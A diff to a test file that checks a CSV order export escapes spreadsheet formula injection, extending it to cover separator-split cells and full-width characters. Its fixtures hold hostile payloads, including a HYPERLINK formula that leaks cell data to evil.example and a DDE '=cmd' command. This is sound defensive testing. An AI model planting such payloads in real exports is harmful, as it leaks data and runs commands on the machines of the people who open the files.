@@ -11,15 +11,28 @@ import { dollarsFromCents, EXPORT_COLUMNS, escapeFormula } from './export.js';
 let t: TestApp;
 let admin: TestClient;
 
-const HOSTILE_NAMES = [
-  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
-  '@SUM(1)',
-  '-1+1',
-  '\t=1',
-  '+1',
-  '\r=2',
+/** Product names a spreadsheet would run, and the text the export must hold instead. */
+const HOSTILE: [string, string][] = [
+  [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+    `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
+  ],
+  ['@SUM(1)', "'@SUM(1)"],
+  ['-1+1', "'-1+1"],
+  ['\t=1', "'\t'=1"],
+  ['+1', "'+1"],
+  ['\r=2', "'\r'=2"],
+  ['＝1+1', "'＝1+1"],
+  // Opened where the separator is `;`, tab or `|`, these split into a second cell that is a formula.
+  ['Cabin;=1+1', "Cabin;'=1+1"],
+  ['Cabin, =2+2', "Cabin, '=2+2"],
+  ['Cabin|@SUM(3)', "Cabin|'@SUM(3)"],
+  ['Cabin\t+4', "Cabin\t'+4"],
+  ['Cabin;－5', "Cabin;'－5"],
 ];
-const TRIGGER = /^[=+\-@\t\r]/;
+const HOSTILE_NAMES = HOSTILE.map(([name]) => name);
+/** Cells (or parts of cells split at a separator of any locale) that a spreadsheet would run. */
+const TRIGGER = /(^|[,;|\t\r\n][ \t]*)[=+\-@＝＋－＠]/;
 
 let studioId: number;
 
@@ -49,7 +62,7 @@ beforeAll(async () => {
     await createOrder(db, {
       orderId: index === 0 ? '=cmd|"/c calc"!A1' : `VH20${index}`,
       productName,
-      orderDate: new Date(`2026-02-0${index + 1}T12:00:00Z`),
+      orderDate: new Date(`2026-02-${String(index + 1).padStart(2, '0')}T12:00:00Z`),
       zipCode: index === 2 ? '-78701' : null,
       initiatedBy: 'system',
     });
@@ -93,7 +106,7 @@ describe('exporting orders', () => {
     const rows = parseCsv(res.body).slice(1);
     for (const row of rows) for (const cell of row) expect(cell).not.toMatch(TRIGGER);
     const products = rows.map((row) => row[1]);
-    for (const name of HOSTILE_NAMES) expect(products).toContain(`'${name}`);
+    for (const [, escaped] of HOSTILE) expect(products).toContain(escaped);
     expect(rows.map((row) => row[0])).toContain(`'=cmd|"/c calc"!A1`);
     expect(rows.map((row) => row[9])).toContain(`'-78701`);
   });
@@ -229,8 +242,12 @@ describe('escaping formula cells', () => {
     ['+1', "'+1"],
     ['-1', "'-1"],
     ['@SUM(1)', "'@SUM(1)"],
-    ['\t=1', "'\t=1"],
-    ['\r=1', "'\r=1"],
+    ['\t=1', "'\t'=1"],
+    ['Cabin;=1+1', "Cabin;'=1+1"],
+    ['a, =1', "a, '=1"],
+    ['＝1', "'＝1"],
+    ['x|@y', "x|'@y"],
+    ['\r=1', "'\r'=1"],
     ['Cabin = 400', 'Cabin = 400'],
     ['', ''],
     ["'quoted", "'quoted"],
